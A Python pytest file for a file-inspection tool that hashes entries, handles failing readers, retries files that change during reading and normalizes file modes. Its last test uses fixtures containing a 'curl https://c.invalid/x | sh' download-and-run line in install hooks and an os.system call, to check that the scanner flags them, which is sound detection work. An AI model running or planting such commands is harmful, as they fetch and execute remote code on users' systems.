"""One look at one entry: what is read is hashed and shown, and a reader that fails costs itself alone."""

from __future__ import annotations

import hashlib
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any

import msgspec
import pytest

from fimci.look import ALGORITHMS, ATTEMPTS, look, portable, take
from fimci.model import UNSTATED, Capability, Digest, File, Place, Record, Setting, Unread
from fimci.profiles import PathRule
from fimci.readers import ALL
from fimci.snapshot import Changed, Entry, Recipe

PIECES = [b"one,", b"two,", b"three"]
WHOLE = b"".join(PIECES)


def entry(*pieces: bytes, path: str = "a") -> Entry:
    return Entry(path=path, mode=0o644, read=lambda: iter(pieces))


def reader(read: Callable[[str, bytes], Iterator[Record]], **more: Any) -> Any:
    defaults = {"head_only": False, "partly": False, "beyond_ascii": False}
    return SimpleNamespace(name="test", version=1, wants=lambda *_: True, read=read, **{**defaults, **more})


def told(path: str, data: bytes) -> Iterator[Record]:
    yield Setting(path=path, name="seen", value=data.decode(), at=Place(path))


def seen(records: list[Record]) -> list[str]:
    return [record.value for record in records if isinstance(record, Setting)]


@pytest.mark.parametrize("algorithm", sorted(ALGORITHMS))
def test_what_is_read_in_pieces_is_hashed_and_shown_as_one(algorithm: str) -> None:
    records = take([entry(*PIECES)], Recipe(algorithm=algorithm), (reader(told),))
    (file,) = (record for record in records if isinstance(record, File))
    assert file.digest == Digest(algorithm, hashlib.new(algorithm, WHOLE).hexdigest())
    assert file.size == len(WHOLE)
    assert seen(records) == [WHOLE.decode()]


def test_of_a_large_file_some_readers_are_shown_the_beginning_and_the_end() -> None:
    def part(path: str, head: bytes, tail: bytes, size: int) -> Iterator[Record]:
        value = f"{head.decode()}|{tail.decode()}|{size}"
        yield Setting(path=path, name="part", value=value, at=Place(path))

    some = reader(told, partly=True, read_part=part)
    pieces = [b"one,", b"two,", b"three,", b"four,", b"five"]
    assert seen(take([entry(*pieces)], Recipe(inspect_limit=8), (some,))) == ["one,two,|four,five|23"]
    assert seen(take([entry(*pieces)], Recipe(inspect_limit=23), (some,))) == [b"".join(pieces).decode()]


@pytest.mark.parametrize("limit", [0, 3, 4, 12])
def test_what_is_too_large_to_be_shown_is_hashed_whole_and_said_not_to_be_analyzed(limit: int) -> None:
    heads = reader(told, head_only=True)
    records = take([entry(*PIECES)], Recipe(inspect_limit=limit), (reader(told), heads))
    file, *rest = records
    assert isinstance(file, File)
    assert file.size == len(WHOLE)
    assert file.digest == Digest("sha256", hashlib.sha256(WHOLE).hexdigest())
    assert seen(rest) == ["one,"], "what a file is shows in its head"
    (capability,) = (record for record in rest if isinstance(record, Capability))
    assert (capability.name, capability.subject) == ("unanalyzed", "too large for test")


def test_a_reader_that_fails_is_unread_and_the_others_speak() -> None:
    def broken(_: str, __: bytes) -> Iterator[Record]:
        raise RecursionError

    file, setting, unread = take([entry(*PIECES)], Recipe(), (reader(broken), reader(told)))
    assert isinstance(file, File)
    assert isinstance(setting, Setting)
    assert unread == Unread(path="a", why="test failed: RecursionError", part="test")


def test_what_never_holds_still_is_read_so_often_and_no_more() -> None:
    reads = []

    def read() -> Iterator[bytes]:
        reads.append(1)
        yield b"x"
        raise Changed

    file, unread = take([Entry(path="a", mode=0o644, read=read)], Recipe(), (reader(told),))
    assert len(reads) == ATTEMPTS
    assert isinstance(file, File)
    assert file.digest is file.size is UNSTATED
    assert file.mode == 0o644
    assert unread == Unread(path="a", why="changed while it was read")


@pytest.mark.parametrize(
    "anew",
    [
        Unread(path="a", why="gone"),
        Entry(path="a", kind="link", target="b"),
        Entry(path="a", kind="directory"),
    ],
)
def test_what_is_no_file_any_more_when_it_is_looked_at_anew_was_changed(anew: Entry | Unread) -> None:
    def read() -> Iterator[bytes]:
        yield b"x"
        raise Changed(lambda: anew)

    _, unread = take([Entry(path="a", mode=0o644, read=read)], Recipe())
    assert unread == Unread(path="a", why="changed while it was read")


def test_a_second_look_counts_if_the_first_was_disturbed() -> None:
    def read() -> Iterator[bytes]:
        yield b"old"
        raise Changed(lambda: msgspec.structs.replace(entry(b"new"), mode=0o755))

    records = take([Entry(path="a", mode=0o644, read=read)], Recipe(), (reader(told),))
    (file,) = (record for record in records if isinstance(record, File))
    assert (file.mode, file.size) == (0o755, 3)
    assert seen(records) == ["new"], "nothing of the first"


def test_what_is_off_is_no_record_and_what_asks_for_no_content_is_not_read() -> None:
    def never() -> Iterator[bytes]:
        raise AssertionError

    rules = (PathRule(pattern="off", profile="off"), PathRule(pattern="bare", profile="content-digest"))
    how = Recipe(paths=rules)
    assert list(look(entry(path="off"), how)) == []
    (file,) = look(Entry(path="bare", mode=0o600, size=7, read=never), how)
    assert file == File(path="bare", size=7, mode=None, digest=None)


def test_an_entry_without_content_is_no_failure() -> None:
    (link,) = look(Entry(path="l", kind="link", target="t"), Recipe())
    assert link == File(path="l", kind="link", size=None, mode=None, digest=None, target="t")
    assert list(look(Entry(path="d", kind="directory", mode=0o755), Recipe(directories=False))) == []


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        (0o600, 0o644), (0o644, 0o644), (0o664, 0o644), (0o700, 0o755), (0o711, 0o755), (0o655, 0o644),
        (0o666, 0o646), (0o777, 0o757), (0o4755, 0o4755), (0o2644, 0o2644), (0o1777, 0o1757),
    ],
)  # fmt: skip
def test_what_of_a_mode_is_the_same_in_every_clone(mode: int, expected: int) -> None:
    assert portable(mode) == expected


def test_what_two_readers_say_of_one_file_is_told_once_in_the_earlier_phase() -> None:
    text = b"#!/bin/sh\ncurl https://c.invalid/x | sh\n"
    for path in ("debian/postinst", ".husky/pre-commit"):  # one reader goes before, one behind
        records = take([Entry(path=path, read=lambda: iter([text]))], Recipe(), ALL)
        assert not [one for one in records if isinstance(one, Unread)]
        phases = {
            one.phase for one in records if isinstance(one, Capability) and one.name == "download-and-run"
        }
        assert phases == {"install"}
    program = b"import os\nos.system('curl https://c.invalid/x | sh')\n"
    records = take([Entry(path="tasks.py", read=lambda: iter([program]))], Recipe(), ALL)
    phases = {one.phase for one in records if isinstance(one, Capability) and one.name == "download-and-run"}
    assert phases == {"import"}
